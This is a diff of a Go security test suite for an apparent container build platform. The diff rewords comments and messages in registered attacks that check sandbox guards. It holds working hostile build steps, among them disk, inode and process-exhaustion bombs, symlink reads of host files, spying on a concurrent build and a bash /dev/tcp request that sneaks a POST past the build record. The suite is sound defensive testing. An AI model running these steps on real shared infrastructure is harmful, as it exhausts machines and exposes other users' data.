@@ -15,8 +15,8 @@ import (
 	"github.com/colophon-build/colophon/test/harness"
 )
 
-// build releases a Dockerfile of these lines after FROM debian, as an image of
-// nothing, and returns what its steps said and how it ended.
+// build releases a Dockerfile with these lines after FROM debian, whose image is
+// empty. It returns the output of the steps, and the error.
 func (s *scene) build(p *harness.Platform, image string, lines ...string) (string, error) {
 	s.Helper()
 	lines = append(append([]string{"FROM debian:bookworm-slim AS attack"}, lines...), "RUN touch /done", "FROM scratch", "COPY --from=attack /done /done")
@@ -24,14 +24,15 @@ func (s *scene) build(p *harness.Platform, image string, lines ...string) (strin
 	return said, err
 }
 
-// exhaust runs a bomb. Its steps say boom where they got through; else the build
-// ends with a word of want ("one|other"), and the platform is as well as before.
+// exhaust runs a build that exhausts a resource. Its steps print boom if they succeed.
+// Otherwise the build must fail with one of the words in want ("one|other"), and the
+// platform must still work.
 func (s *scene) exhaust(boom, want string, lines ...string) (through, stopped string) {
 	s.Helper()
 	p := s.platform("small")
 	said, err := s.build(p, "bomb", lines...)
 	if strings.Contains(said, boom) {
-		return "the step says " + boom, ""
+		return "the step printed " + boom, ""
 	}
 	resp, herr := (&http.Client{Timeout: 10 * time.Second}).Get(p.URL + "/readyz")
 	if herr != nil {
@@ -39,7 +40,7 @@ func (s *scene) exhaust(boom, want string, lines ...string) (through, stopped st
 	}
 	resp.Body.Close()
 	if err == nil || !slices.ContainsFunc(strings.Split(want, "|"), func(w string) bool { return strings.Contains(err.Error(), w) }) {
-		s.Errorf("the build ended with %v, want %q\n%s", err, want, said)
+		s.Errorf("build: got %v, want %q\n%s", err, want, said)
 	}
 	if _, err := s.build(p, "calm-"+strings.ToLower(rand.Text())); err != nil {
 		return fmt.Sprintf("the next build fails: %v", err), ""
@@ -54,7 +55,7 @@ const (
 
 var _ = register(attack{
 	name: "memory-bomb", tries: "take all memory of the machine",
-	guard: "a room's cgroup: platform/builder/sandbox newCgroup",
+	guard: "the cgroup of the room limits it: platform/builder/sandbox newCgroup",
 	cuts: []cut{{cgroupFile, `res.Memory.Limit = &l.Memory`, `_ = l.Memory`},
 		{cgroupFile, `if err != nil || got > l.Memory {`, `if err != nil {`}},
 	beside: func(s *scene) (string, string) {
@@ -62,14 +63,14 @@ var _ = register(attack{
 	},
 })
 
-// cutDisk gives every room the same large disk, whatever its limit says.
+// cutDisk gives every room the same large disk, whatever its limit.
 var cutDisk = cut{"platform/builder/sandbox/disk.go", `	size = size / 4096 * 4096
 `, `	size = 8 << 30
 `}
 
 var _ = register(attack{
 	name: "disk-bomb", tries: "fill the disk of the machine",
-	guard: "a room's file system has a size: platform/builder/sandbox newDisk",
+	guard: "the file system of a room has a fixed size: platform/builder/sandbox newDisk",
 	cuts:  []cut{cutDisk},
 	beside: func(s *scene) (string, string) {
 		return s.exhaust("took 700 MiB", "disk full|exit code: 1", `RUN fallocate -l 700M /big && echo took 700 MiB`)
@@ -77,8 +78,8 @@ var _ = register(attack{
 })
 
 var _ = register(attack{
-	name: "file-bomb", tries: "use up the files that a disk can have",
-	guard: "a room's file system has as many files as go with its size: platform/builder/sandbox newDisk",
+	name: "file-bomb", tries: "use up the inodes of the disk",
+	guard: "the file system of a room has inodes in proportion to its size: platform/builder/sandbox newDisk",
 	cuts:  []cut{cutDisk},
 	beside: func(s *scene) (string, string) {
 		return s.exhaust("made 200000 files", "disk full|exit code: 1", `RUN perl -e 'mkdir "/n"; for (1..200000) { open(F, ">", "/n/$_") or exit 1; close F } print "made 200000 files\n"'`)
@@ -87,7 +88,7 @@ var _ = register(attack{
 
 var _ = register(attack{
 	name: "fork-bomb", tries: "take all processes of the machine",
-	guard: "a room's cgroup: platform/builder/sandbox newCgroup",
+	guard: "the cgroup of the room limits it: platform/builder/sandbox newCgroup",
 	cuts: []cut{{cgroupFile, `res.Pids.Limit = &l.PIDs`, `_ = l.PIDs`},
 		{cgroupFile, `if err != nil || got > l.PIDs {`, `if false && got > l.PIDs {`}},
 	beside: func(s *scene) (string, string) {
@@ -96,8 +97,8 @@ var _ = register(attack{
 })
 
 var _ = register(attack{
-	name: "endless-build", tries: "keep a room for ever",
-	guard: "the wall clock ends it: platform/builder/buildkit Build",
+	name: "endless-build", tries: "occupy a room for ever",
+	guard: "a build has a time limit: platform/builder/buildkit Build",
 	cuts:  []cut{{"platform/builder/buildkit/buildkit.go", `wall := lower(req.Limits.WallTime, b.cfg.WallTime)`, `wall := time.Hour`}},
 	beside: func(s *scene) (string, string) {
 		return s.exhaust("still here", "took longer than the limit of 15s", `RUN trap "" TERM INT HUP; sleep 20; echo still here`)
@@ -105,8 +106,8 @@ var _ = register(attack{
 })
 
 var _ = register(attack{
-	name: "daemon-left-behind", tries: "leave a process that waits for the next build",
-	guard: "a room dies with its build: platform/builder/sandbox Kill, removeCgroup",
+	name: "daemon-left-behind", tries: "leave a process running for the next build",
+	guard: "a room ends with its build: platform/builder/sandbox Kill, removeCgroup",
 	cuts:  append(slices.Clone(cutProcesses), cutContainers, cut{cgroupFile, `os.WriteFile(filepath.Join(dir, "cgroup.kill"), []byte("1"), 0) == nil`, `true`}),
 	beside: func(s *scene) (string, string) {
 		p := s.platform("step")
@@ -126,8 +127,8 @@ var _ = register(attack{
 })
 
 var _ = register(attack{
-	name: "poisoned-cache", tries: "leave files in the caches that the next build takes for its own",
-	guard: "a build starts from nothing: platform/builder/sandbox makeRoomDir, newDisk",
+	name: "poisoned-cache", tries: "leave files in caches that the next build uses",
+	guard: "each build starts with empty caches: platform/builder/sandbox makeRoomDir, newDisk",
 	cuts: append(slices.Clone(cutUsers), cut{"platform/builder/sandbox/mounts.go", `fd, err := unix.FcntlInt(state.mount.Fd(), unix.F_DUPFD_CLOEXEC, 0)`, `shared := filepath.Join(state.dir, "../shared")
 	os.MkdirAll(shared+"/tmp", 0o700)
 	fd, err := unix.OpenTree(unix.AT_FDCWD, shared, unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC)`}),
@@ -146,7 +147,7 @@ var _ = register(attack{
 		if strings.Contains(said, poison) {
 			return "the next build sees it", ""
 		}
-		// The very same step is run again, not taken from a cache.
+		// The same step runs again, and is not taken from a cache.
 		first, err1 := s.build(p, "same-a", `RUN cat /proc/sys/kernel/random/uuid`)
 		second, err2 := s.build(p, "same-b", `RUN cat /proc/sys/kernel/random/uuid`)
 		if err1 != nil || err2 != nil {
@@ -169,14 +170,14 @@ func uuid(said string) string {
 }
 
 var _ = register(attack{
-	name: "another-builds-files", tries: "read the files, memory and sockets of a build that runs at the same time",
+	name: "another-builds-files", tries: "read the files, memory and sockets of a concurrent build",
 	guard: "each room has namespaces and users of its own: platform/builder/sandbox takeSlot, Cloneflags",
 	cuts:  append(slices.Clone(cutProcesses), cutContainers),
 	beside: func(s *scene) (string, string) {
 		p := s.platform("step")
 		secret := "other-" + rand.Text()
-		// The other build tells of itself when its files are there, and waits to be looked at
-		// in a shell whose arguments everybody can read who sees it.
+		// The other build reports when its files exist, and then waits in a shell with the
+		// secret in its arguments.
 		there := make(chan struct{})
 		s.world.page("/there", func(w http.ResponseWriter, _ *http.Request) { close(there) })
 		ctx, cancel := context.WithCancel(context.Background())
@@ -199,7 +200,7 @@ var _ = register(attack{
 		}
 		select {
 		case <-ended:
-			s.Fatal("the other build ended before it was looked at")
+			s.Fatal("the other build ended before the spy ran")
 		default:
 		}
 		cancel()
@@ -207,13 +208,13 @@ var _ = register(attack{
 		if strings.Contains(said, secret) {
 			return "it read the other build's secret", ""
 		}
-		return "", "nothing of the other build was in sight"
+		return "", "the spy found nothing of the other build"
 	},
 })
 
 var _ = register(attack{
-	name: "claimed-commit", tries: "claim another commit in labels, arguments, files and provenance of the image's own",
-	guard: "the attestor names the commit that it fetched, and no other: release provenance",
+	name: "claimed-commit", tries: "claim another commit in labels, arguments, files and a provenance inside the image",
+	guard: "the attestor names only the commit that it fetched: release provenance",
 	cuts: []cut{{buildFile, `	a.Config["sourceDateEpoch"] =`, `	var image struct{ Config struct{ Labels map[string]string } }
 	json.Unmarshal(m.Platforms[0].ConfigRaw, &image)
 	if id := image.Config.Labels["org.opencontainers.image.revision"]; id != "" {
@@ -239,25 +240,25 @@ var _ = register(attack{
 		}
 		head := harness.Git(s, repo, "rev-parse", "HEAD")
 		if r.Source.ID != head {
-			return "the release says it is of " + r.Source.ID, ""
+			return "the release names the commit " + r.Source.ID, ""
 		}
 		if code, out := s.verify(p, p.Addr+"/claims@"+r.Digest, "--source", "https://git.example.com/other"); code == 0 {
-			return "verify takes it for another source: " + out, ""
+			return "verify accepts it from another source: " + out, ""
 		}
 		if code, out := s.verify(p, p.Addr+"/claims@"+r.Digest, "--source", "file://"+repo); code != 0 || !strings.Contains(out, head[:7]) {
-			s.Errorf("verify of the image as what it is: exit code %d\n%s\n%s", code, out, said)
+			s.Errorf("verify with the true source: exit code %d\n%s\n%s", code, out, said)
 		}
-		// What stands beside the image would be read by tools that look for attestations of BuildKit.
+		// Tools that look for BuildKit's attestations would read a manifest beside the image.
 		if index := string(p.Get("/v2/claims/manifests/" + r.Digest)); strings.Contains(index, "attestation-manifest") {
-			return "the image has an attestation of its own", ""
+			return "the index contains an attestation of BuildKit", ""
 		}
-		return "", "certificate and provenance name " + head[:7]
+		return "", "the certificate and the provenance name " + head[:7]
 	},
 })
 
 var _ = register(attack{
-	name: "secret-mounts", tries: "be handed secrets, ssh keys, privileges or the host's network by the recipe",
-	guard: "no entitlement, secret or agent is given to a build: platform/builder/buildkit options, daemonConfig",
+	name: "secret-mounts", tries: "get secrets, ssh keys, privileges or the host's network through the Dockerfile",
+	guard: "builds get no entitlement, secret or agent: platform/builder/buildkit options, daemonConfig",
 	cuts: []cut{{"platform/builder/buildkit/rooms.go", `insecure-entitlements = []`, `insecure-entitlements = ["network.host", "security.insecure"]`},
 		{solveFile, `		ProxyNetwork:  true,
 `, `		ProxyNetwork:  true,
@@ -285,8 +286,8 @@ var _ = register(attack{
 })
 
 var _ = register(attack{
-	name: "links-in-the-source", tries: "have the platform read its host's files through links in the source or the output",
-	guard: "links out of the tree are refused, the others kept as links, and all files held against the commit's tree: source export, platform/builder/worker packTree",
+	name: "links-in-the-source", tries: "make the platform read files of the host through links in the source or the output",
+	guard: "links out of the tree are refused, other links are kept as links, and all files are compared with the commit's tree: source export, platform/builder/worker packTree",
 	cuts: []cut{{"source/export.go", `_, err := root.Stat(link)`, `err := error(nil)`},
 		{"platform/builder/worker/tree.go", `info, err := d.Info()`, `info, err := os.Stat(filepath.Join(dir, name))`},
 		{"platform/builder/worker/tree.go", `f, err := root.Open(name)`, `f, err := os.Open(filepath.Join(dir, name))`},
@@ -299,7 +300,7 @@ var _ = register(attack{
 			}
 			return s.inRegistry(p, s.secrets["the canary file"])
 		}
-		// In the output: whoever unpacks the image must not follow them.
+		// Links in the output, which nobody who unpacks the image may follow.
 		_, said, err := s.release(p, s.repository(map[string]string{"Dockerfile": strings.Join([]string{
 			"FROM debian:bookworm-slim AS attack",
 			"RUN mkdir /o && ln -s " + s.canary + " /o/file && ln -s " + s.dir + " /o/dir && ln -s / /o/root && echo x > /o/a && ln /o/a /o/hard",
@@ -313,9 +314,9 @@ var _ = register(attack{
 		}
 		_, said, err = s.release(p, s.repository(map[string]string{"Dockerfile": "FROM debian:bookworm-slim AS attack\nRUN ln -s / /root-of-all\nFROM scratch\nCOPY --from=attack /root-of-all" + s.canary + " /got\n"}), "links-"+strings.ToLower(rand.Text()))
 		if evidence := leaked(said, err); evidence != "" || err == nil {
-			return "a copy through a link found it: " + evidence, ""
+			return "a copy through a link read it: " + evidence, ""
 		}
-		// In the source: to a file that the attestor keeps, and to those of the host.
+		// Links in the source, to a file of the attestor and to files of the host.
 		kept := filepath.Join(p.Data, "attestor", "records", "canary")
 		if err := copyFile(kept, s.canary); err != nil {
 			s.Fatal(err)
@@ -341,7 +342,7 @@ var _ = register(attack{
 	},
 })
 
-// inRegistry looks for a secret in all that was published.
+// inRegistry looks for a secret in everything that was pushed.
 func (s *scene) inRegistry(p *harness.Platform, secret string) (found string) {
 	filepath.WalkDir(filepath.Join(p.Data, "registry"), func(path string, d os.DirEntry, err error) error {
 		if err == nil && d.Type().IsRegular() {
@@ -355,8 +356,8 @@ func (s *scene) inRegistry(p *harness.Platform, secret string) (found string) {
 }
 
 var _ = register(attack{
-	name: "recipe-leaves-the-tree", tries: "build a Dockerfile of the host, or with switches of BuildKit's",
-	guard: "a recipe names a clean path inside the tree, and arguments of the Dockerfile: build Check; nothing outside the tree is opened or sent: platform/builder/buildkit checkDockerfile, options",
+	name: "recipe-leaves-the-tree", tries: "build a Dockerfile outside the tree, or set options of BuildKit",
+	guard: "a recipe contains only a clean path inside the tree and build arguments: attest Check; nothing outside the tree is opened or sent: platform/builder/buildkit checkDockerfile, options",
 	cuts: []cut{{"attest/recipe.go", `if f := r.Dockerfile; f != "" && (path.Clean(f)`, `if f := r.Dockerfile; false && (path.Clean(f)`}, {"attest/recipe.go", `strings.HasPrefix(k, "BUILDKIT_") ||`, `false ||`},
 		{solveFile, `if err := checkDockerfile(req.Tree, file); err != nil {`, `file = filepath.Join(req.Tree, file)
 	dockerfile, err := fsutil.NewFS(filepath.Dir(file))
@@ -393,13 +394,13 @@ var _ = register(attack{
 	},
 })
 
-// post is a shell command that sends a POST through the room's proxy, which
-// BuildKit's own record does not have.
+// post is a shell command that sends a POST through the room's proxy. BuildKit does
+// not record such a request.
 const post = `bash -c 'p=${HTTP_PROXY#http://}; p=${p%/}; exec 3<>/dev/tcp/${p%:*}/${p##*:}; printf "POST http://world.test/ HTTP/1.1\r\nHost: world.test\r\nContent-Length: 2\r\nConnection: close\r\n\r\nhi" >&3; cat <&3; echo; echo posted'`
 
 var _ = register(attack{
-	name: "unlisted-fetch", tries: "fetch something that BuildKit's record leaves out",
-	guard: "the gateway's record counts, and a build that tells less is refused: platform/release/network Agree",
+	name: "unlisted-fetch", tries: "download something that BuildKit does not record",
+	guard: "the gateway's record decides, and a build that reports less is refused: platform/release/network Agree",
 	cuts:  []cut{{"platform/release/dependencies.go", `if err := rec.Agree(claims, images); err != nil {`, `if err := error(nil); err != nil {`}, {"platform/release/dependencies.go", `claims := network.Claims{`, `_ = network.Claims{`}},
 	beside: func(s *scene) (string, string) {
 		p := s.platform("step")
@@ -408,10 +409,10 @@ var _ = register(attack{
 			s.Fatalf("the step fetched nothing: %v\n%s", err, said)
 		}
 		if err == nil {
-			return "the image was signed, and nothing says what its build fetched", ""
+			return "the image was signed without a record of the download", ""
 		}
 		if !strings.Contains(err.Error(), "disagree") {
-			s.Errorf("stopped by something else: %v", err)
+			s.Errorf("stopped for another reason: %v", err)
 		}
 		return "", err.Error()
 	},
